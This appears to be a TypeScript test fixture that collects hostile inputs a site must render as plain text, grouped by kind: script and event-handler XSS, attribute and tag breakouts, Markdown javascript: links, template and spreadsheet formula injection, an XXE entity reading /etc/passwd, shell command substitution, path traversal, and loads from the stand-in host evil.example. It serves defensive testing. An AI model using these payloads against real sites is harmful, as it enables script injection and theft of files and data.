// Inputs that are accepted as text, and must stay text: whoever opens a page sees these characters, and nothing runs.
// Each sets `__hacked` or asks for something from `evil.example`, so that a page in which one works gives it away.

const RUN = '__hacked=1';
const OUT = 'https://evil.example/x';

/** By kind, one line each: they stand in titles, names, definitions, quotes and in the text of abstracts and essays. */
export const TEXTS = {
  'scripts and handlers': [
    `<script>${RUN}</script>`,
    `<SCRIPT SRC=${OUT}.js></SCRIPT>`,
    `<script type=module>${RUN}</script>`,
    `<script\u00a0>${RUN}</script>`,
    `<img src=x onerror=${RUN}>`,
    `<img src="${OUT}.png" alt="b">`,
    `<svg onload=${RUN}>`,
    `<svg/onload=${RUN}>`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:${RUN}"><text y="9">b</text></a></svg>`,
    `<math><mi xlink:href="javascript:${RUN}">b</mi></math>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
    `<details open ontoggle=${RUN}>b`,
    `<input autofocus onfocus=${RUN}>`,
    `<body onload=${RUN}>`,
    `<video><source onerror=${RUN}></video>`,
    `<audio src=x onerror=${RUN}>`,
    `<marquee onstart=${RUN}>b</marquee>`,
    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
    `<iframe src="javascript:parent.${RUN}"></iframe>`,
    `<object data="javascript:${RUN}"></object>`,
    `<embed src="${OUT}">`,
    `<form action="${OUT}"><button>b</button></form>`,
    `<button formaction="javascript:${RUN}">b</button>`,
    `<a href="javascript:${RUN}">b</a>`,
    `<base href="https://evil.example/">`,
    `<meta http-equiv="refresh" content="0;url=${OUT}">`,
    `<link rel="stylesheet" href="${OUT}.css">`,
    `<style>@import url(${OUT}.css);</style>`,
    `<style>*{background:url(${OUT})}</style>`,
    `<p style="background:url(${OUT})">b</p>`,
    `<template><script>${RUN}</script></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  ],
  'out of what they stand in': [
    `"><script>${RUN}</script>`,
    `'><img src=x onerror=${RUN}>`,
    `" onmouseover="${RUN}" x="`,
    `' autofocus onfocus='${RUN}`,
    '</title><script>__hacked=1</script>',
    '</script><script>__hacked=1</script>',
    '</style><script>__hacked=1</script>',
    '</textarea><script>__hacked=1</script>',
    '</template><script>__hacked=1</script>',
    '--><script>__hacked=1</script><!--',
    '<!--><img src=x onerror=__hacked=1>',
    ']]><script>__hacked=1</script>',
    '<![CDATA[<script>__hacked=1</script>]]>',
    '<?xml-stylesheet href="https://evil.example/x"?>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    '<mark><img src=x onerror=__hacked=1></mark>',
  ],
  'in Markdown': [
    `[b](javascript:${RUN})`,
    `[b](JaVaScRiPt:${RUN})`,
    `[b](&#106;avascript:${RUN})`,
    `[b](vbscript:${RUN})`,
    `[b](data:text/html,<script>${RUN}</script>)`,
    `[b](<javascript:${RUN}>)`,
    `[b](//evil.example/x "title\\" onclick=${RUN}")`,
    `[b](https://example.org/"onmouseover=${RUN})`,
    `[b](https://example.org/ "\\"><script>${RUN}</script>")`,
    `<javascript:${RUN}>`,
    `![b](javascript:${RUN})`,
    `![b](${OUT}.png)`,
    `![b](//evil.example/x.png)`,
    `![b](data:image/svg+xml,<svg onload=${RUN}>)`,
    `![" onerror="${RUN}](x:y)`,
    `[![b](${OUT}.png)](javascript:${RUN})`,
    `[b][javascript:${RUN}]`,
    '`<script>__hacked=1</script>`',
  ],
  'in other languages': [
    '{{constructor.constructor("__hacked=1")()}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is to stay as it is.
    '${__hacked=1}',
    '{__hacked=1}',
    '<%= __hacked=1 %>',
    '#{__hacked=1}',
    '=HYPERLINK("https://evil.example/x","b")',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '\\input{/etc/passwd}\\write18{rm}',
    '$(touch hacked)`touch hacked`;touch hacked',
    '%0d%0aSet-Cookie: b=1',
    '../../../etc/passwd',
    'file:///etc/passwd',
  ],
  'names that JavaScript knows': [
    '__proto__',
    'constructor prototype toString hasOwnProperty __defineGetter__',
    'null undefined NaN true [object Object]',
  ],
  'characters of every kind': [
    'Ünïcödé 蜂 🐝 e\u0301 \u0338',
    '&lt;script&gt;__hacked=1&lt;/script&gt; &amp;lt; &#60;b&#62;',
    '＜script＞__hacked=1＜/script＞',
    'a\u200bb\ufeffc \u2028 d',
  ],
} as const satisfies Readonly<Record<string, readonly string[]>>;

/** All of them, in this order. */
export const LINES: readonly string[] = Object.values(TEXTS).flat();

/** The same in Markdown, but what is left is a link within the site that leads nowhere: a build says so and stops. */
export const DEAD_ENDS: readonly string[] = [
  `[b](java&#10;script:${RUN})`,
  `[b](&#1;javascript:${RUN})`,
  `![b](\\\\\\\\evil.example\\\\x.png)`,
];
